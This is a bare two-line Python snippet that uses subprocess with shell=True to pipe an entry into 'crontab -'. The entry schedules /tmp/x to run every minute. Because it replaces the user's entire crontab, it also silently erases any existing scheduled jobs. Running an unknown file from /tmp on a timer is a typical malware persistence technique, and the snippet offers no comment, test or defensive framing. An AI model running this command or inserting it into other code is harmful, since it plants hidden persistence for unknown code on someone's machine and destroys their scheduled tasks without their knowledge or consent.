import subprocess
subprocess.run("echo '* * * * * /tmp/x' | crontab -", shell=True)
